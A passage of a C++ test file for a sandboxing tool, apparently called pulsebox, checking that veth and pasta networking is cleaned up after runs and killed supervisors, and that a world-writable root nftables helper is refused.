      run({"--net", "all"}, {"tcp,all," + std::string(kApi) + "," + std::to_string(api.port())});
  ASSERT_EQ(result.exit_code, 0) << result.out << result.err;
  EXPECT_NE(result.out.find("all ok"), std::string::npos) << result.out;
  EXPECT_NE(result.err.find("--net all (veth)"), std::string::npos) << result.err;
  EXPECT_EQ(tables().find("pulsebox-"), std::string::npos) << tables();
  // The kernel removes the veth with the sandbox's namespace, in the
  // background once init has exited.
  EXPECT_TRUE(testing::poll_until([] { return links().find("pbx") == std::string::npos; }, 30s))
      << links();

  // A supervisor killed with SIGKILL mid-run: its sandbox dies with it
  // (PR_SET_PDEATHSIG), the veth with the namespace; the NAT table is left
  // for reconcile.
  const pid_t supervisor = start_sleeping_run({"--net", "all"});
  ASSERT_GT(supervisor, 0);
  // Not the link alone: it exists before its addresses and the NAT table.
  ASSERT_TRUE(sleeping_run_is_up()) << testing::read_file(scratch_.path() / "background.log");
  ASSERT_NE(links().find("pbx"), std::string::npos) << links();
  ::kill(supervisor, SIGKILL);
  ::waitpid(supervisor, nullptr, 0);
  EXPECT_TRUE(testing::poll_until([] { return links().find("pbx") == std::string::npos; }, 30s))
      << links();
  EXPECT_NE(tables().find("pulsebox-"), std::string::npos) << "left for reconcile: " << tables();
  const auto reconciled =
      testing::run_cli({"reconcile", "-w", workspace_.path().string()}, "", cli_env());
  EXPECT_EQ(reconciled.exit_code, 0) << reconciled.out << reconciled.err;
  EXPECT_EQ(tables().find("pulsebox-"), std::string::npos) << tables();
}

// An ordinary user's pasta ends with the run, and with a killed supervisor.
TEST_F(ConnectedNetworkTest, PastaEndsWithItsRunAndWithAKilledSupervisor) {
  if (setup() != "pasta") GTEST_SKIP() << "as root --net all is a veth pair (the test above)";
  TcpServer api(kApi, "api");
  const std::string marker = state_.path().string();  // in pasta's --pid path
  const auto result =
      run({"--net", "all"}, {"tcp,all," + std::string(kApi) + "," + std::to_string(api.port())});
  ASSERT_EQ(result.exit_code, 0) << result.out << result.err;
  EXPECT_NE(result.out.find("all ok"), std::string::npos) << result.out;
  EXPECT_NE(result.err.find("--net all (pasta)"), std::string::npos) << result.err;
  EXPECT_EQ(testing::processes_with_marker(marker), 0);

  const pid_t supervisor = start_sleeping_run({"--net", "all"});
  ASSERT_GT(supervisor, 0);
  ASSERT_TRUE(sleeping_run_is_up()) << testing::read_file(scratch_.path() / "background.log");
  ASSERT_GT(testing::processes_with_marker(marker), 0) << "pasta is not running";
  ::kill(supervisor, SIGKILL);
  ::waitpid(supervisor, nullptr, 0);
  EXPECT_TRUE(testing::poll_until([&] { return testing::processes_with_marker(marker) == 0; }, 10s))
      << "pasta or the sandbox outlived the supervisor";
  const auto reconciled =
      testing::run_cli({"reconcile", "-w", workspace_.path().string()}, "", cli_env());
  EXPECT_EQ(reconciled.exit_code, 0) << reconciled.err;
}

// The static CLI runs its nftables helper with root's privileges: never a
// copy that others may write.
TEST_F(RootNetworkTest, AWritableNftablesHelperIsNotRun) {
  const fs::path dir = scratch_.path() / "bin";
  fs::create_directories(dir);
  fs::copy_file(binary_, dir / "pulsebox");
  fs::copy_file(fs::path(binary_).parent_path() / "pulsebox-nft", dir / "pulsebox-nft");
  fs::permissions(dir / "pulsebox-nft", fs::perms(0777));
  std::vector<std::string> args = {"run",
                                   "--allow-weaker",
                                   "limits",
                                   "--changes",
                                   "discard",
                                   "-w",
                                   workspace_.path().string(),
                                   "--net",
                                   "allowlist",
                                   "--allow",
                                   kApi,
                                   "--",
                                   "true"};
  ::setenv("PULSEBOX_BIN", (dir / "pulsebox").c_str(), 1);  // run_cli's binary
  const auto refused = testing::run_cli(args, "", cli_env());
  ::setenv("PULSEBOX_BIN", binary_.c_str(), 1);
  EXPECT_NE(refused.exit_code, 0);
  EXPECT_NE(refused.err.find("others may write it"), std::string::npos) << refused.err;
}

TEST_F(RootNetworkTest, AllWithoutForwardingNeedsAllowWeakerAndSaysWhy) {
  const auto refused = run({"--net", "all"}, {});
  EXPECT_NE(refused.exit_code, 0) << refused.out;
  EXPECT_NE(refused.err.find("ip_forward"), std::string::npos) << refused.err;
}

}  // namespace
}  // namespace pulsebox
